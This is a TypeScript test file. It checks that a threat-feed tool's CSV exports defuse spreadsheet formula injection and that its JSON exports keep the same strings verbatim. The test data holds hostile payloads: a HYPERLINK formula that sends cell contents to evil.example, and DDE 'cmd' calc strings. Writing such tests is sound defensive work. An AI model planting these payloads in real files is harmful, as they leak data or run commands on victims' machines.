// Every export format and every CSV feed against spreadsheet formula injection: hostile strings in
// every text field of a report (AS names, countries, reasons) and of feed decisions (cluster names
// are tenant-chosen) come out of CSV cells defused (a leading ' before = + - @ tab CR) and come out
// of the JSON formats verbatim. A new export format fails to compile here until it is classified.
import { describe, expect, it } from "vitest";
import {
  EXPORT_FORMATS,
  exportSetFromReport,
  renderExport,
  type TExportFormat,
} from "../../src/export/index.ts";
import { renderFeedCsv, renderFeedJsonLines, type TFeedDecision } from "../../src/feeds/index.ts";
import { ZReport, type TScoredIp } from "../../src/report/report-schema.ts";

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1,2\r\n=3",
];

/** RFC 4180 with CRLF rows: enough to read back what the exports write. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted || (c !== '"' && c !== "," && !(c === "\r" && text[i + 1] === "\n"))) cell += c;
    else if (c === '"') quoted = true;
    else {
      row.push(cell);
      cell = "";
      if (c === "\r") {
        rows.push(row);
        row = [];
        i++;
      }
    }
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** A spreadsheet runs a cell that starts with one of these; a plain number is the one safe case. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

function expectDefused(csv: string, minCells: number) {
  const cells = parseCsv(csv).flat();
  expect(cells.length).toBeGreaterThanOrEqual(minCells);
  expect(cells.filter(runsAsFormula)).toEqual([]);
  // Defused, not dropped: each payload is there behind its quote.
  for (const p of PAYLOADS)
    expect(cells.some((c) => c === `'${p}` || c.includes(`'${p}`) || c.includes(p))).toBe(true);
}

const scored = (i: number, payload: string): TScoredIp => ({
  ip: `198.51.100.${i + 1}`,
  score: 0.95,
  events: 5,
  verdict: "malicious",
  bucket: "block",
  asn: 64500,
  asOrg: payload,
  country: payload,
  reasons: [payload],
  features: { "ip:port-scan": 2 },
});

const report = ZReport.parse({
  schemaVersion: 1,
  uploadId: "u1",
  generatedAt: "2026-10-22T10:00:00.000Z",
  asOf: "2026-10-22",
  summary: {
    lines: 8,
    events: 40,
    rejected: 0,
    sources: 8,
    flagged: 8,
    first: null,
    last: null,
    buckets: { block: 8, review: 0, allow: 0 },
  },
  formats: {},
  rejected: { byReason: {}, samples: [] },
  model: null,
  modelNote: null,
  halfLifeDays: 6,
  ips: PAYLOADS.map((p, i) => scored(i, p)),
});
const now = new Date("2026-10-23T00:00:00.000Z");
const set = exportSetFromReport(report, { tenantId: "t1", filter: { min: 0 }, now });

/** How each report export format is checked; a new format is a type error until it is listed. */
const CHECKS: Record<TExportFormat, (body: string) => void> = {
  csv: (body) => {
    expectDefused(body, PAYLOADS.length * 10);
    // Numbers stay numbers: score, events and AS number of the first row, untouched.
    expect(parseCsv(body)[1]?.slice(1, 6)).toEqual(["0.950000", "malicious", "block", "5", "64500"]);
  },
  json: (body) => {
    const text = JSON.stringify(JSON.parse(body));
    for (const p of PAYLOADS) expect(text).toContain(JSON.stringify(p).slice(1, -1));
  },
  stix: (body) => {
    // STIX carries addresses and patterns only: none of the hostile text reaches it.
    const text = JSON.stringify(JSON.parse(body));
    expect(text).toContain("198.51.100.1");
  },
  txt: (body) => {
    const lines = body
      .trimEnd()
      .split("\n")
      .filter((l) => !l.startsWith("#"));
    expect(lines).toEqual(PAYLOADS.map((_, i) => `198.51.100.${i + 1}`));
  },
};

describe("formula injection in exports", () => {
  it("defuses CSV cells and keeps JSON verbatim, in every report export format", () => {
    for (const format of EXPORT_FORMATS) CHECKS[format](renderExport(set, format).body);
  });

  it("feed CSV defuses tenant-chosen cluster names; JSON lines keep them verbatim", async () => {
    const decisions: TFeedDecision[] = PAYLOADS.map((p, i) => ({
      value: `192.0.2.${i + 1}`,
      scope: "Ip",
      family: 4,
      score: 0.9,
      bucket: "block",
      cluster: p,
      asOf: "2026-10-22",
      validUntil: "2026-11-22T00:00:00.000Z",
      asn: 64500,
      reportId: p,
    }));
    let csv = "";
    for await (const chunk of renderFeedCsv(decisions, { now })) csv += chunk;
    expectDefused(csv, PAYLOADS.length * 9);
    let lines = "";
    for await (const chunk of renderFeedJsonLines(decisions, { now })) lines += chunk;
    expect(
      lines
        .trimEnd()
        .split("\n")
        .map((l) => (JSON.parse(l) as TFeedDecision).cluster),
    ).toEqual(PAYLOADS);
  });
});
